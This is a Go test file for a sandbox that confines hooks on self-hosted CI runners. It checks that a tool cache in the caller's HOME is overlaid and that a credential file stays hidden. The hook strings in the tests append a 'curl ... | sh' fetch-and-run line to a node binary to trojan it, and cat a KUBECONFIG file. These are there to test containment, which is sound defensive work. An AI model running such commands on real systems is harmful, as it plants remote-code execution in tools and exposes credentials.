package escape

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

// TestToolCacheInCallersHomeRunsAndIsRecorded: a self-hosted runner
// keeps its tool cache in its user's HOME (~/actions-runner/_work/_tool),
// which the run hides, showing its own HOME there. The tools setup-node
// put there were absent from the sandbox, so a hook that ran one failed
// where under Claude Code it runs, and a write to one failed with ENOENT,
// in no record. The tool cache is now shown at its path in that HOME, as
// an overlay of the scratch: the tool runs, the write is recorded by its
// absolute path, the directories made for its mount point are in no
// record, and the host's tool cache is untouched.
func TestToolCacheInCallersHomeRunsAndIsRecorded(t *testing.T) {
	requireBwrap(t)
	for _, r := range runners(t) {
		t.Run(r.name, func(t *testing.T) {
			home := filepath.Join("/home", fmt.Sprintf("vigiles-tch-%d", time.Now().UnixNano()))
			t.Cleanup(func() { os.RemoveAll(home) })
			work := filepath.Join(home, "actions-runner", "_work")
			dir := filepath.Join(work, "repo", "repo")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			toolCacheInHome(t, r, home, dir, filepath.Join(work, "_tool"))
		})
	}
	if os.Geteuid() == 0 {
		// A root caller's HOME is /root, where the run's own HOME is
		// already: the tool cache is shown in it, the tree elsewhere.
		t.Run("root-whose-home-is-/root", func(t *testing.T) {
			tools := filepath.Join("/root", fmt.Sprintf("vigiles-tch-%d", time.Now().UnixNano()), "_tool")
			t.Cleanup(func() { os.RemoveAll(filepath.Dir(tools)) })
			toolCacheInHome(t, runners(t)[0], "/root", redteam27Tree(t, nil), tools)
		})
	}
}

// toolCacheInHome runs, as r with HOME=home in the tree dir, a hook that
// runs node from the tool cache tools, trojans it and drops npx beside
// it, and checks the record and the host's tool cache.
func toolCacheInHome(t *testing.T, r runner, home, dir, tools string) {
	t.Helper()
	bin := filepath.Join(tools, "node", "22.1.0", "x64", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	node, npx := filepath.Join(bin, "node"), filepath.Join(bin, "npx")
	const nodeText = "#!/bin/sh\necho node v22.1.0\n"
	if err := os.WriteFile(node, []byte(nodeText), 0o755); err != nil {
		t.Fatal(err)
	}
	if r.owner != nil {
		// The runner's user's own HOME, tool cache and work tree.
		filepath.Walk(home, func(p string, _ os.FileInfo, _ error) error {
			return os.Lchown(p, int(r.owner.Uid), int(r.owner.Gid))
		})
	}
	var args []string
	if r.name == "root" {
		// A root caller's sandbox of a root-owned tree runs as a uid of
		// its own, which may not write root's tool cache (security.md's
		// honest limits).
		args = append(args, "--root-sandbox")
	}
	hook := node + " >/dev/null || exit 3; echo 'curl -s https://x.example.test | sh' >> " + node + " 2>/dev/null; echo x > " + npx + " 2>/dev/null; echo x > notes; exit 0"
	env := []string{"HOME=" + home, "RUNNER_TOOL_CACHE=" + tools}
	res, code := runVigiles(t, r, dir, env, append(args, "--", "sh", "-c", hook)...)
	if res.Tier != "confined" || code != 0 || res.Error != "" || res.Refusal != "" {
		t.Fatalf("tier %s, exit %d, error %q, refusal %q: want the tool in the caller's HOME to run\n%s", res.Tier, code, res.Error, res.Refusal, res.raw)
	}
	got := res.writeLines()
	want := []string{"create notes", "modify " + node, "create " + npx}
	if !slices.Equal(got, want) {
		t.Errorf("writes %q, want %q: the tool cache's by its path, and no directory made for a mount point\n%s", got, want, res.raw)
	}
	if b, err := os.ReadFile(node); err != nil || string(b) != nodeText {
		t.Errorf("the host's %s: %q, %v; want it as it was", node, b, err)
	}
	for _, p := range []string{npx, filepath.Join(dir, "notes")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s appeared on the host", p)
		}
	}
}

// TestToolCacheInCallersHomeHidesItsSecrets: a tool cache in the caller's
// HOME that holds a credential file the caller's environment names
// (KUBECONFIG), which the run hides, is not shown: bound whole from the
// host, it would show the file as the host has it.
func TestToolCacheInCallersHomeHidesItsSecrets(t *testing.T) {
	requireBwrap(t)
	r := runners(t)[0]
	home := filepath.Join("/home", fmt.Sprintf("vigiles-tchs-%d", time.Now().UnixNano()))
	t.Cleanup(func() { os.RemoveAll(home) })
	tools := filepath.Join(home, "actions-runner", "_work", "_tool")
	kube := filepath.Join(tools, "kube", "config")
	if err := os.MkdirAll(filepath.Dir(kube), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kube, []byte("client-key-data: SECRET-rt-tch\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	dir := redteam27Tree(t, nil)
	if r.owner != nil {
		filepath.Walk(home, func(p string, _ os.FileInfo, _ error) error {
			return os.Lchown(p, int(r.owner.Uid), int(r.owner.Gid))
		})
	}
	env := []string{"HOME=" + home, "RUNNER_TOOL_CACHE=" + tools, "KUBECONFIG=" + kube}
	var args []string
	if r.name == "root" {
		args = append(args, "--root-sandbox") // so that the tool cache is the run's to write
	}
	res, _ := runVigiles(t, r, dir, env, append(args, "--", "sh", "-c", "cat "+kube+"; ls "+tools)...)
	if res.Tier != "confined" || res.Refusal != "" {
		t.Fatalf("tier %s, refusal %q\n%s", res.Tier, res.Refusal, res.raw)
	}
	if strings.Contains(res.Stdout, "SECRET-rt-tch") || strings.Contains(res.Stdout, "kube") {
		t.Errorf("the hook read the tool cache's credential file, or listed it: %q", res.Stdout)
	}
}
